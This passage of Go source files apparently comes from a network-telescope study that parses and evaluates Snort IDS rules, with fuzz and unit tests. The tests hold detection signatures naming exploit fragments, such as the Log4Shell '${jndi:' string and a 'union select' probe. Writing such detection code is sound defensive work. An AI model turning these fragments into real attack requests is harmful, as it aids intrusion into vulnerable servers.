			return ByteTest{}, fmt.Errorf("rules: byte_test modifier %q", p)
		}
	}
	if !bt.String && bt.Count > 8 {
		return ByteTest{}, fmt.Errorf("rules: byte_test binary count %d exceeds 8", bt.Count)
	}
	if bt.String && bt.Count > 20 {
		return ByteTest{}, fmt.Errorf("rules: byte_test string count %d exceeds 20", bt.Count)
	}
	return bt, nil
}

func base(s string) int {
	if strings.HasPrefix(s, "0x") || strings.HasPrefix(s, "0X") {
		return 16
	}
	return 10
}

// Eval applies the test to data with the previous content match ending at
// prevEnd (0 when none or when the test is absolute).
func (bt ByteTest) Eval(data []byte, prevEnd int) bool {
	start := bt.Offset
	if bt.Relative {
		start += prevEnd
	}
	if start < 0 || start+bt.Count > len(data) {
		return false
	}
	raw := data[start : start+bt.Count]
	var v uint64
	if bt.String {
		parsed, err := strconv.ParseUint(strings.TrimSpace(string(raw)), bt.Base, 64)
		if err != nil {
			return false
		}
		v = parsed
	} else {
		if bt.LittleEndian {
			for i := bt.Count - 1; i >= 0; i-- {
				v = v<<8 | uint64(raw[i])
			}
		} else {
			for i := 0; i < bt.Count; i++ {
				v = v<<8 | uint64(raw[i])
			}
		}
	}
	var res bool
	switch bt.Op {
	case "<":
		res = v < bt.Value
	case ">":
		res = v > bt.Value
	case "<=":
		res = v <= bt.Value
	case ">=":
		res = v >= bt.Value
	case "&":
		res = v&bt.Value != 0
	case "^":
		res = v^bt.Value != 0
	default:
		res = v == bt.Value
	}
	if bt.Negated {
		return !res
	}
	return res
}

// String renders the option value in rule syntax.
func (bt ByteTest) render() string {
	op := bt.Op
	if bt.Negated {
		op = "!" + op
	}
	fields := []string{
		strconv.Itoa(bt.Count), op, strconv.FormatUint(bt.Value, 10), strconv.Itoa(bt.Offset),
	}
	if bt.Relative {
		fields = append(fields, "relative")
	}
	if bt.String {
		fields = append(fields, "string")
		switch bt.Base {
		case 16:
			fields = append(fields, "hex")
		case 8:
			fields = append(fields, "oct")
		default:
			fields = append(fields, "dec")
		}
	}
	if bt.LittleEndian {
		fields = append(fields, "little")
	}
	return strings.Join(fields, ",")
}
