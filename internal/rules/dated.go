package rules

import (
	"bufio"
	"fmt"
	"io"
	"strings"
	"time"
)

// Dated-ruleset file format: the interchange format cmd/mkdata writes and
// the replay tooling reads. Each rule is preceded by a publication comment:
//
//	# published: 2021-12-10T09:00:00Z
//	alert tcp any any -> any any (msg:"..."; sid:58722;)
//
// The publication date is what post-facto evaluation needs to place F and D
// in the lifecycle. Rules without a preceding date comment get the zero
// time (callers decide whether that is an error); the special value
// "never-during-study" marks rules whose release the study never observed.

// NeverPublishedSentinel is the timestamp used for rules marked
// "never-during-study" in dated ruleset files.
var NeverPublishedSentinel = time.Date(2100, 1, 1, 0, 0, 0, 0, time.UTC)

// publishedPrefix introduces a publication comment.
const publishedPrefix = "# published:"

// ParseDatedRuleset reads a dated ruleset file. Like ParseRuleset it
// collects per-line errors rather than aborting.
func ParseDatedRuleset(r io.Reader) ([]DatedRule, []error) {
	var out []DatedRule
	var errs []error
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	lineNo := 0
	var pending time.Time
	var havePending bool
	for sc.Scan() {
		lineNo++
		line := strings.TrimSpace(sc.Text())
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, publishedPrefix) {
			val := strings.TrimSpace(line[len(publishedPrefix):])
			if val == "never-during-study" {
				pending = NeverPublishedSentinel
				havePending = true
				continue
			}
			t, err := time.Parse(time.RFC3339, val)
			if err != nil {
				errs = append(errs, fmt.Errorf("line %d: bad publication date %q: %w", lineNo, val, err))
				havePending = false
				continue
			}
			pending = t
			havePending = true
			continue
		}
		if strings.HasPrefix(line, "#") {
			continue
		}
		rule, err := Parse(line)
		if err != nil {
			errs = append(errs, fmt.Errorf("line %d: %w", lineNo, err))
			havePending = false
			continue
		}
		if !havePending {
			errs = append(errs, fmt.Errorf("line %d: rule sid %d has no preceding publication comment", lineNo, rule.SID))
			continue
		}
		out = append(out, DatedRule{Rule: rule, Published: pending})
		havePending = false
	}
	if err := sc.Err(); err != nil {
		errs = append(errs, fmt.Errorf("rules: reading dated ruleset: %w", err))
	}
	return out, errs
}

// WriteDatedRuleset writes rules in the dated-ruleset format.
func WriteDatedRuleset(w io.Writer, rs []DatedRule) error {
	for _, dr := range rs {
		pub := dr.Published.Format(time.RFC3339)
		if dr.Published.Equal(NeverPublishedSentinel) {
			pub = "never-during-study"
		}
		text := dr.Rule.Raw
		if text == "" {
			text = dr.Rule.Render()
		}
		if _, err := fmt.Fprintf(w, "%s %s\n%s\n", publishedPrefix, pub, text); err != nil {
			return err
		}
	}
	return nil
}
