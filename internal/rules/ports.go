package rules

import (
	"fmt"
	"strconv"
	"strings"
)

// PortRange is an inclusive port range.
type PortRange struct {
	Lo uint16
	Hi uint16
}

// PortSpec is a parsed port specification: `any`, a single port, a range
// `8000:8100`, a negation `!80`, or a bracketed list `[80,443,8000:8100]`.
type PortSpec struct {
	// Any matches every port.
	Any bool
	// Negated inverts the whole specification.
	Negated bool
	// Ranges are the included ranges (single ports are degenerate ranges).
	Ranges []PortRange
}

// AnyPorts returns the `any` specification.
func AnyPorts() PortSpec { return PortSpec{Any: true} }

// Contains reports whether the specification matches port p.
func (s PortSpec) Contains(p uint16) bool {
	if s.Any {
		return true
	}
	in := false
	for _, r := range s.Ranges {
		if p >= r.Lo && p <= r.Hi {
			in = true
			break
		}
	}
	if s.Negated {
		return !in
	}
	return in
}

// String renders the specification in rule syntax.
func (s PortSpec) String() string {
	if s.Any {
		return "any"
	}
	var parts []string
	for _, r := range s.Ranges {
		if r.Lo == r.Hi {
			parts = append(parts, strconv.Itoa(int(r.Lo)))
		} else {
			parts = append(parts, fmt.Sprintf("%d:%d", r.Lo, r.Hi))
		}
	}
	body := strings.Join(parts, ",")
	if len(parts) > 1 {
		body = "[" + body + "]"
	}
	if s.Negated {
		return "!" + body
	}
	return body
}

// ParsePortSpec parses a port specification.
func ParsePortSpec(text string) (PortSpec, error) {
	t := strings.TrimSpace(text)
	if t == "" {
		return PortSpec{}, fmt.Errorf("rules: empty port spec")
	}
	var spec PortSpec
	if strings.EqualFold(t, "any") {
		spec.Any = true
		return spec, nil
	}
	if strings.HasPrefix(t, "!") {
		spec.Negated = true
		t = strings.TrimSpace(t[1:])
	}
	if strings.HasPrefix(t, "[") {
		if !strings.HasSuffix(t, "]") {
			return PortSpec{}, fmt.Errorf("rules: unterminated port list %q", text)
		}
		t = t[1 : len(t)-1]
	}
	for _, item := range strings.Split(t, ",") {
		r, err := parsePortRange(strings.TrimSpace(item))
		if err != nil {
			return PortSpec{}, err
		}
		spec.Ranges = append(spec.Ranges, r)
	}
	return spec, nil
}

func parsePortRange(item string) (PortRange, error) {
	if item == "" {
		return PortRange{}, fmt.Errorf("rules: empty port range element")
	}
	if i := strings.IndexByte(item, ':'); i >= 0 {
		loS, hiS := item[:i], item[i+1:]
		lo, hi := uint16(0), uint16(65535)
		var err error
		if loS != "" {
			if lo, err = parsePort(loS); err != nil {
				return PortRange{}, err
			}
		}
		if hiS != "" {
			if hi, err = parsePort(hiS); err != nil {
				return PortRange{}, err
			}
		}
		if lo > hi {
			return PortRange{}, fmt.Errorf("rules: inverted port range %q", item)
		}
		return PortRange{Lo: lo, Hi: hi}, nil
	}
	p, err := parsePort(item)
	if err != nil {
		return PortRange{}, err
	}
	return PortRange{Lo: p, Hi: p}, nil
}

func parsePort(s string) (uint16, error) {
	n, err := strconv.Atoi(s)
	if err != nil || n < 0 || n > 65535 {
		return 0, fmt.Errorf("rules: invalid port %q", s)
	}
	return uint16(n), nil
}
