// Package rules implements the subset of the Snort rule language the study
// needs: rule headers (action, protocol, address and port specifications,
// direction), and the payload-detection options used by the embedded
// ruleset (content with its positional modifiers and HTTP sticky buffers,
// pcre, flow, msg, sid/rev, reference, and metadata).
//
// The package is purely syntactic: it parses rule text into a typed AST and
// validates it. Evaluation lives in package ids, which also implements the
// paper's two methodological twists — port-insensitive rewriting and
// post-facto evaluation of dated rulesets.
package rules

import (
	"fmt"
	"regexp"
	"strings"
	"time"
)

// Action is the rule action (alert, drop, ...).
type Action string

// Actions accepted by the parser.
const (
	ActionAlert Action = "alert"
	ActionDrop  Action = "drop"
	ActionLog   Action = "log"
	ActionPass  Action = "pass"
)

// Proto is the rule protocol.
type Proto string

// Protocols accepted by the parser. The telescope captures TCP only, but
// rulesets legitimately contain other protocols; they parse and simply never
// match TCP sessions.
const (
	ProtoTCP  Proto = "tcp"
	ProtoUDP  Proto = "udp"
	ProtoICMP Proto = "icmp"
	ProtoIP   Proto = "ip"
)

// Direction of a rule header.
type Direction int

// Directions.
const (
	DirToServer      Direction = iota // ->
	DirBidirectional                  // <>
)

func (d Direction) String() string {
	if d == DirBidirectional {
		return "<>"
	}
	return "->"
}

// Buffer identifies which reassembled/extracted buffer a content or pcre
// option inspects. Snort 2 modifier style ("content:...; http_uri;") is what
// the study ruleset uses.
type Buffer int

// Buffers.
const (
	BufRaw Buffer = iota // entire client (or matching-direction) stream
	BufHTTPMethod
	BufHTTPURI    // request target; engines also match its normalized form
	BufHTTPRawURI // request target, raw bytes only (no normalization pass)
	BufHTTPHeader
	BufHTTPCookie
	BufHTTPBody
)

// String names the buffer as in rule text.
func (b Buffer) String() string {
	switch b {
	case BufHTTPMethod:
		return "http_method"
	case BufHTTPURI:
		return "http_uri"
	case BufHTTPRawURI:
		return "http_raw_uri"
	case BufHTTPHeader:
		return "http_header"
	case BufHTTPCookie:
		return "http_cookie"
	case BufHTTPBody:
		return "http_client_body"
	default:
		return "raw"
	}
}

// Content is one content option with its modifiers.
type Content struct {
	// Pattern is the decoded byte pattern (pipe-hex escapes resolved).
	Pattern []byte
	// Negated reports a `content:!"..."` match (pattern must NOT occur).
	Negated bool
	// Nocase makes matching case-insensitive.
	Nocase bool
	// Buffer the pattern applies to.
	Buffer Buffer
	// Positional modifiers. Offset/Depth anchor to the start of the buffer;
	// Distance/Within are relative to the end of the previous content match.
	// Nil means unset.
	Offset   *int
	Depth    *int
	Distance *int
	Within   *int
	// FastPattern marks the content chosen for the multi-pattern prefilter.
	FastPattern bool
	// DataAts are relative isdataat assertions anchored at this content's
	// match end.
	DataAts []IsDataAt
	// ByteTests are relative byte_test assertions anchored at this
	// content's match end.
	ByteTests []ByteTest
}

// PCRE is one pcre option.
type PCRE struct {
	// Expr is the original /expr/flags text.
	Expr string
	// Re is the compiled Go regexp (flags translated where possible).
	Re *regexp.Regexp
	// Negated inverts the match.
	Negated bool
	// Buffer the expression applies to (from U/H/C/P/M flags).
	Buffer Buffer
}

// Reference is one reference option (e.g. cve,2021-44228).
type Reference struct {
	System string
	ID     string
}

// FlowOpts records the flow: option keywords the study uses.
type FlowOpts struct {
	ToServer    bool
	ToClient    bool
	Established bool
}

// Rule is a parsed rule.
type Rule struct {
	Action   Action
	Proto    Proto
	SrcAddr  AddrSpec
	SrcPorts PortSpec
	Dir      Direction
	DstAddr  AddrSpec
	DstPorts PortSpec

	Msg        string
	SID        int
	Rev        int
	GID        int
	Flow       FlowOpts
	Contents   []Content
	PCREs      []PCRE
	References []Reference
	Metadata   map[string]string
	// Dsize constrains the application-layer payload size.
	Dsize *NumTest
	// Urilen constrains the normalized URI length (HTTP requests only).
	Urilen *NumTest
	// IsDataAts are rule-level (non-relative) data-presence assertions
	// against the raw stream. Relative assertions attach to their
	// preceding Content.
	IsDataAts []IsDataAt
	// ByteTests are rule-level (non-relative) byte tests against the raw
	// stream. Relative tests attach to their preceding Content.
	ByteTests []ByteTest

	// Raw is the original rule text.
	Raw string
}

// CVEs returns the CVE identifiers referenced by the rule, in "YYYY-NNNN"
// form (upper-cased, CVE- prefix stripped).
func (r *Rule) CVEs() []string {
	var out []string
	for _, ref := range r.References {
		if !strings.EqualFold(ref.System, "cve") {
			continue
		}
		id := strings.ToUpper(ref.ID)
		id = strings.TrimPrefix(id, "CVE-")
		out = append(out, id)
	}
	return out
}

// PortInsensitive returns a copy of the rule with both port specifications
// widened to `any`. The paper modifies all rules this way so exploit traffic
// aimed at non-standard ports is still detected (Section 3.1).
func (r *Rule) PortInsensitive() *Rule {
	cp := *r
	cp.SrcPorts = AnyPorts()
	cp.DstPorts = AnyPorts()
	return &cp
}

// FastPatternContent returns the content option used for prefiltering: the
// one flagged fast_pattern, else the longest non-negated pattern. It returns
// nil if the rule has no usable content (such rules must be evaluated
// unconditionally).
func (r *Rule) FastPatternContent() *Content {
	var best *Content
	for i := range r.Contents {
		c := &r.Contents[i]
		if c.Negated {
			continue
		}
		if c.FastPattern {
			return c
		}
		if best == nil || len(c.Pattern) > len(best.Pattern) {
			best = c
		}
	}
	return best
}

// DatedRule pairs a rule with its publication time. The IDS evaluates the
// full ruleset post facto and downstream analysis compares match times with
// publication times, so publication is data, not a filter, at match time.
type DatedRule struct {
	Rule      *Rule
	Published time.Time
}

// String renders an abbreviated description for logs and tables.
func (r *Rule) String() string {
	return fmt.Sprintf("sid:%d rev:%d %q", r.SID, r.Rev, r.Msg)
}
