package rules

import "testing"

// Fuzz targets: the parsers must never panic and accepted rules must
// survive a render → reparse cycle.

func FuzzParse(f *testing.F) {
	f.Add(log4shellRule)
	f.Add(`alert tcp any any -> any 8090 (msg:"x"; content:"|90 90|ab"; nocase; sid:1;)`)
	f.Add(`alert tcp $HOME_NET ![80,443] <> 10.0.0.0/8 any (msg:"y"; pcre:"/a|b/Ui"; dsize:>10; sid:2;)`)
	f.Add(`alert udp any any -> any any (msg:"z"; byte_test:4,>,100,0; sid:3;)`)
	f.Add(`(((((`)
	f.Add(`alert tcp any any -> any any (content:"\")`)
	f.Fuzz(func(t *testing.T, text string) {
		r, err := Parse(text)
		if err != nil {
			return
		}
		// Accepted rules must render and reparse cleanly.
		back, err := Parse(r.Render())
		if err != nil {
			t.Fatalf("render of accepted rule does not reparse: %v\noriginal: %q\nrendered: %q", err, text, r.Render())
		}
		if back.SID != r.SID || len(back.Contents) != len(r.Contents) || len(back.PCREs) != len(r.PCREs) {
			t.Fatalf("render round trip changed structure:\noriginal: %q\nrendered: %q", text, r.Render())
		}
	})
}

func FuzzParsePortSpec(f *testing.F) {
	for _, s := range []string{"any", "80", "!80", "[80,443,8000:8100]", ":1024", "60000:"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		spec, err := ParsePortSpec(text)
		if err != nil {
			return
		}
		// Accepted specs round-trip through String.
		back, err := ParsePortSpec(spec.String())
		if err != nil {
			t.Fatalf("String() of accepted spec does not reparse: %q -> %q: %v", text, spec.String(), err)
		}
		for _, p := range []uint16{0, 1, 80, 443, 8090, 65535} {
			if spec.Contains(p) != back.Contains(p) {
				t.Fatalf("round trip changed semantics at port %d: %q -> %q", p, text, spec.String())
			}
		}
	})
}

func FuzzParseByteTest(f *testing.F) {
	f.Add("4,>,1000,0")
	f.Add("2,!=,0x1F,8,relative,little")
	f.Add("5,=,65535,0,string,dec")
	f.Fuzz(func(t *testing.T, text string) {
		bt, err := ParseByteTest(text)
		if err != nil {
			return
		}
		data := []byte("0123456789abcdef")
		_ = bt.Eval(data, 0) // must not panic
		_ = bt.Eval(nil, 0)
		_ = bt.Eval(data, -100)
	})
}
