package rules

import (
	"bytes"
	"net/netip"
	"strings"
	"testing"
	"testing/quick"
)

const log4shellRule = `alert tcp $EXTERNAL_NET any -> $HOME_NET any (msg:"SERVER-OTHER Apache Log4j logging remote code execution attempt"; flow:to_server,established; content:"${jndi:"; fast_pattern; nocase; http_header; reference:cve,2021-44228; metadata:policy balanced-ips drop, ruleset community; sid:58722; rev:4;)`

func TestParseLog4shell(t *testing.T) {
	r, err := Parse(log4shellRule)
	if err != nil {
		t.Fatal(err)
	}
	if r.Action != ActionAlert || r.Proto != ProtoTCP {
		t.Errorf("action/proto = %s/%s", r.Action, r.Proto)
	}
	if r.SID != 58722 || r.Rev != 4 {
		t.Errorf("sid/rev = %d/%d", r.SID, r.Rev)
	}
	if !strings.Contains(r.Msg, "Log4j") {
		t.Errorf("msg = %q", r.Msg)
	}
	if len(r.Contents) != 1 {
		t.Fatalf("contents = %d", len(r.Contents))
	}
	c := r.Contents[0]
	if string(c.Pattern) != "${jndi:" {
		t.Errorf("pattern = %q", c.Pattern)
	}
	if !c.Nocase || !c.FastPattern || c.Buffer != BufHTTPHeader {
		t.Errorf("modifiers = %+v", c)
	}
	if got := r.CVEs(); len(got) != 1 || got[0] != "2021-44228" {
		t.Errorf("CVEs = %v", got)
	}
	if !r.Flow.ToServer || !r.Flow.Established {
		t.Errorf("flow = %+v", r.Flow)
	}
	if r.Metadata["policy"] != "balanced-ips drop" {
		t.Errorf("metadata = %v", r.Metadata)
	}
}

func TestParseHexContent(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any 445 (msg:"hex"; content:"|90 90|AB|00|"; sid:1;)`)
	if err != nil {
		t.Fatal(err)
	}
	want := []byte{0x90, 0x90, 'A', 'B', 0x00}
	if !bytes.Equal(r.Contents[0].Pattern, want) {
		t.Errorf("pattern = %v, want %v", r.Contents[0].Pattern, want)
	}
}

func TestParseEscapes(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"escape \"test\""; content:"a\;b\"c\\d\|e"; sid:2;)`)
	if err != nil {
		t.Fatal(err)
	}
	if r.Msg != `escape "test"` {
		t.Errorf("msg = %q", r.Msg)
	}
	if got := string(r.Contents[0].Pattern); got != `a;b"c\d|e` {
		t.Errorf("pattern = %q", got)
	}
}

func TestParseNegatedContent(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"neg"; content:!"benign"; sid:3;)`)
	if err != nil {
		t.Fatal(err)
	}
	if !r.Contents[0].Negated {
		t.Error("negation not parsed")
	}
}

func TestParsePositionalModifiers(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"pos"; content:"GET"; offset:0; depth:3; content:"/admin"; distance:1; within:20; sid:4;)`)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Contents) != 2 {
		t.Fatalf("contents = %d", len(r.Contents))
	}
	c0, c1 := r.Contents[0], r.Contents[1]
	if c0.Offset == nil || *c0.Offset != 0 || c0.Depth == nil || *c0.Depth != 3 {
		t.Errorf("c0 = %+v", c0)
	}
	if c1.Distance == nil || *c1.Distance != 1 || c1.Within == nil || *c1.Within != 20 {
		t.Errorf("c1 = %+v", c1)
	}
}

func TestParsePCRE(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"pcre"; pcre:"/%24%7B|\$\{/Ui"; sid:5;)`)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.PCREs) != 1 {
		t.Fatalf("pcres = %d", len(r.PCREs))
	}
	p := r.PCREs[0]
	if p.Buffer != BufHTTPURI {
		t.Errorf("buffer = %v", p.Buffer)
	}
	if !p.Re.MatchString("/x?q=${jndi}") {
		t.Error("pcre should match ${")
	}
	if !p.Re.MatchString("/x?q=%24%7Bjndi") {
		t.Error("pcre should match %24%7B")
	}
	if p.Re.MatchString("/plain") {
		t.Error("pcre should not match plain URI")
	}
}

func TestParsePCRECaseInsensitive(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"x"; pcre:"/SeLeCt/i"; sid:6;)`)
	if err != nil {
		t.Fatal(err)
	}
	if !r.PCREs[0].Re.MatchString("union select 1") {
		t.Error("case-insensitive pcre failed")
	}
}

func TestParsePCRENegated(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"x"; pcre:!"/ok/"; sid:7;)`)
	if err != nil {
		t.Fatal(err)
	}
	if !r.PCREs[0].Negated {
		t.Error("negated pcre not parsed")
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		``,
		`alert tcp any any -> any any`, // no options
		`alert tcp any any -> any any (content:"x"; sid:1;`,     // unterminated
		`alert tcp any any => any any (msg:"x"; sid:1;)`,        // bad direction
		`frob tcp any any -> any any (msg:"x"; sid:1;)`,         // bad action
		`alert xtp any any -> any any (msg:"x"; sid:1;)`,        // bad proto
		`alert tcp any any -> any any (msg:"x";)`,               // missing sid
		`alert tcp any any -> any any (content:"|zz|"; sid:1;)`, // bad hex
		`alert tcp any any -> any any (content:"a|90"; sid:1;)`, // unterminated hex
		`alert tcp any any -> any any (nocase; sid:1;)`,         // orphan modifier
		`alert tcp any any -> any any (content:""; sid:1;)`,     // empty pattern
		`alert tcp any any -> any 99999 (content:"x"; sid:1;)`,  // bad port
		`alert tcp any any -> any any (pcre:"/(/"; sid:1;)`,     // bad regex
		`alert tcp any any -> any any (frobnicate:"x"; sid:1;)`, // unknown option
		`alert tcp any any -> any any (msg:"x"; sid:abc;)`,      // bad sid
		`alert tcp any [80 -> any any (msg:"x"; sid:1;)`,        // header field count
		`alert tcp any any -> any any (flow:sideways; sid:1;)`,  // bad flow keyword
		`alert tcp 10.0.0.999 any -> any any (msg:"x"; sid:1;)`, // bad address
		`alert tcp any any -> any any (pcre:"/a/x"; sid:1;)`,    // /x flag
		`alert tcp any any -> any any (content:"a\"; sid:1;)`,   // dangling escape...
	}
	for _, text := range bad {
		if _, err := Parse(text); err == nil {
			t.Errorf("Parse accepted %q", text)
		}
	}
}

func TestPortSpec(t *testing.T) {
	cases := []struct {
		spec    string
		port    uint16
		matches bool
	}{
		{"any", 1, true},
		{"80", 80, true},
		{"80", 81, false},
		{"!80", 80, false},
		{"!80", 443, true},
		{"[80,443]", 443, true},
		{"[80,443]", 8080, false},
		{"8000:8100", 8090, true},
		{"8000:8100", 7999, false},
		{"![8000:8100,22]", 22, false},
		{"![8000:8100,22]", 443, true},
		{":1024", 80, true},
		{":1024", 2048, false},
		{"60000:", 65535, true},
	}
	for _, c := range cases {
		spec, err := ParsePortSpec(c.spec)
		if err != nil {
			t.Errorf("ParsePortSpec(%q): %v", c.spec, err)
			continue
		}
		if got := spec.Contains(c.port); got != c.matches {
			t.Errorf("%q.Contains(%d) = %v, want %v", c.spec, c.port, got, c.matches)
		}
	}
}

func TestPortSpecErrors(t *testing.T) {
	for _, s := range []string{"", "abc", "70000", "[80", "100:50", "80,,90"} {
		if _, err := ParsePortSpec(s); err == nil {
			t.Errorf("ParsePortSpec accepted %q", s)
		}
	}
}

func TestPortSpecString(t *testing.T) {
	for _, s := range []string{"any", "80", "!80", "8000:8100"} {
		spec, err := ParsePortSpec(s)
		if err != nil {
			t.Fatal(err)
		}
		if got := spec.String(); got != s {
			t.Errorf("String() = %q, want %q", got, s)
		}
	}
}

func TestAddrSpec(t *testing.T) {
	env := map[string][]netip.Prefix{
		"HOME_NET": {netip.MustParsePrefix("10.0.0.0/8")},
	}
	cases := []struct {
		spec    string
		addr    string
		matches bool
	}{
		{"any", "1.2.3.4", true},
		{"$HOME_NET", "10.1.2.3", true},
		{"$HOME_NET", "192.168.0.1", false},
		{"$UNDEFINED", "192.168.0.1", true}, // unresolved variables are permissive
		{"192.0.2.0/24", "192.0.2.200", true},
		{"192.0.2.0/24", "192.0.3.1", false},
		{"!$HOME_NET", "10.0.0.1", false},
		{"!$HOME_NET", "8.8.8.8", true},
		{"[10.0.0.1,192.0.2.0/24]", "10.0.0.1", true},
		{"[10.0.0.1,192.0.2.0/24]", "10.0.0.2", false},
	}
	for _, c := range cases {
		spec, err := ParseAddrSpec(c.spec)
		if err != nil {
			t.Errorf("ParseAddrSpec(%q): %v", c.spec, err)
			continue
		}
		if got := spec.Contains(netip.MustParseAddr(c.addr), env); got != c.matches {
			t.Errorf("%q.Contains(%s) = %v, want %v", c.spec, c.addr, got, c.matches)
		}
	}
}

func TestAddrSpecErrors(t *testing.T) {
	for _, s := range []string{"", "[10.0.0.1", "10.0.0.0/33", "300.1.1.1", "[,]"} {
		if _, err := ParseAddrSpec(s); err == nil {
			t.Errorf("ParseAddrSpec accepted %q", s)
		}
	}
}

func TestPortInsensitive(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any 8090 (msg:"confluence"; content:"${"; sid:10;)`)
	if err != nil {
		t.Fatal(err)
	}
	if r.DstPorts.Contains(80) {
		t.Fatal("original rule should be port-limited")
	}
	pi := r.PortInsensitive()
	if !pi.DstPorts.Contains(80) || !pi.SrcPorts.Contains(1) {
		t.Error("PortInsensitive did not widen ports")
	}
	// Original must be unchanged.
	if r.DstPorts.Contains(80) {
		t.Error("PortInsensitive mutated the original")
	}
}

func TestFastPatternContent(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"fp"; content:"short"; content:"muchlongerpattern"; content:!"neg"; sid:11;)`)
	if err != nil {
		t.Fatal(err)
	}
	fp := r.FastPatternContent()
	if fp == nil || string(fp.Pattern) != "muchlongerpattern" {
		t.Errorf("FastPatternContent = %v", fp)
	}

	r2, err := Parse(`alert tcp any any -> any any (msg:"fp2"; content:"short"; fast_pattern; content:"muchlongerpattern"; sid:12;)`)
	if err != nil {
		t.Fatal(err)
	}
	fp2 := r2.FastPatternContent()
	if fp2 == nil || string(fp2.Pattern) != "short" {
		t.Errorf("explicit fast_pattern not honored: %v", fp2)
	}

	r3, err := Parse(`alert tcp any any -> any any (msg:"none"; pcre:"/x/"; sid:13;)`)
	if err != nil {
		t.Fatal(err)
	}
	if r3.FastPatternContent() != nil {
		t.Error("rule without content returned a fast pattern")
	}
}

func TestParseRuleset(t *testing.T) {
	input := `
# Comment line
alert tcp any any -> any 80 (msg:"one"; content:"a"; sid:100;)

this is not a rule
alert tcp any any -> any 443 (msg:"two"; content:"b"; sid:101;)
`
	got, errs := ParseRuleset(strings.NewReader(input))
	if len(got) != 2 {
		t.Errorf("parsed %d rules, want 2", len(got))
	}
	if len(errs) != 1 {
		t.Errorf("got %d errors, want 1: %v", len(errs), errs)
	}
	if len(errs) == 1 && !strings.Contains(errs[0].Error(), "line 5") {
		t.Errorf("error missing line number: %v", errs[0])
	}
}

func TestBidirectional(t *testing.T) {
	r, err := Parse(`alert tcp any any <> any any (msg:"bidir"; content:"x"; sid:14;)`)
	if err != nil {
		t.Fatal(err)
	}
	if r.Dir != DirBidirectional {
		t.Errorf("Dir = %v", r.Dir)
	}
	if r.Dir.String() != "<>" {
		t.Errorf("Dir.String() = %q", r.Dir.String())
	}
}

func TestHeaderWithBracketLists(t *testing.T) {
	r, err := Parse(`alert tcp [10.0.0.0/8, 192.0.2.1] [80, 443] -> any any (msg:"lists"; content:"x"; sid:15;)`)
	if err != nil {
		t.Fatal(err)
	}
	if !r.SrcPorts.Contains(443) || r.SrcPorts.Contains(22) {
		t.Errorf("src ports = %v", r.SrcPorts)
	}
	if !r.SrcAddr.Contains(netip.MustParseAddr("10.9.9.9"), nil) {
		t.Error("src addr list failed")
	}
}

func TestCVEsMultiple(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"multi"; content:"x"; reference:cve,2021-1497; reference:cve,CVE-2021-1498; reference:url,example.com; sid:16;)`)
	if err != nil {
		t.Fatal(err)
	}
	got := r.CVEs()
	if len(got) != 2 || got[0] != "2021-1497" || got[1] != "2021-1498" {
		t.Errorf("CVEs = %v", got)
	}
}

// Property: parsing never panics on arbitrary input.
func TestParseNoPanicProperty(t *testing.T) {
	f := func(s string) bool {
		_, _ = Parse(s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// Property: a parsed rule's port specs are consistent with Contains over the
// whole port space when round-tripped through String.
func TestPortSpecRoundTripProperty(t *testing.T) {
	f := func(lo, hi uint16, neg bool) bool {
		if lo > hi {
			lo, hi = hi, lo
		}
		spec := PortSpec{Negated: neg, Ranges: []PortRange{{Lo: lo, Hi: hi}}}
		parsed, err := ParsePortSpec(spec.String())
		if err != nil {
			return false
		}
		for _, p := range []uint16{0, lo, hi, 65535, lo / 2, hi/2 + lo/2} {
			if spec.Contains(p) != parsed.Contains(p) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func BenchmarkParse(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Parse(log4shellRule); err != nil {
			b.Fatal(err)
		}
	}
}
