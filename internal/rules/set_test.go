package rules

import (
	"bytes"
	"runtime"
	"strings"
	"testing"
	"time"

	"repro/internal/netsim"
)

func mustRule(t *testing.T, raw string) *Rule {
	t.Helper()
	r, err := Parse(raw)
	if err != nil {
		t.Fatalf("Parse(%q): %v", raw, err)
	}
	return r
}

func ruleLine(msg, content string, sid, rev int) string {
	return `alert tcp any any -> any any (msg:"` + msg + `"; content:"` + content +
		`"; sid:` + itoa(sid) + `; rev:` + itoa(rev) + `;)`
}

func itoa(n int) string {
	var b [12]byte
	i := len(b)
	for {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
		if n == 0 {
			break
		}
	}
	return string(b[i:])
}

// TestDedupSIDsRevWins verifies the core resolution: higher rev supersedes,
// regardless of feed order.
func TestDedupSIDsRevWins(t *testing.T) {
	old := mustRule(t, ruleLine("old", "aaa", 100, 1))
	newer := mustRule(t, ruleLine("new", "bbb", 100, 2))
	for _, in := range [][]*Rule{{old, newer}, {newer, old}} {
		out, errs := DedupSIDs(in)
		if len(errs) != 0 {
			t.Fatalf("unexpected errors: %v", errs)
		}
		if len(out) != 1 || out[0].Rev != 2 || out[0].Msg != "new" {
			t.Fatalf("DedupSIDs kept %+v, want rev 2", out[0])
		}
	}
}

// TestDedupSIDsIdenticalCollapse: byte-identical duplicates collapse with no
// error.
func TestDedupSIDsIdenticalCollapse(t *testing.T) {
	a := mustRule(t, ruleLine("same", "xyz", 200, 3))
	b := mustRule(t, ruleLine("same", "xyz", 200, 3))
	out, errs := DedupSIDs([]*Rule{a, b})
	if len(errs) != 0 {
		t.Fatalf("identical dup raised errors: %v", errs)
	}
	if len(out) != 1 {
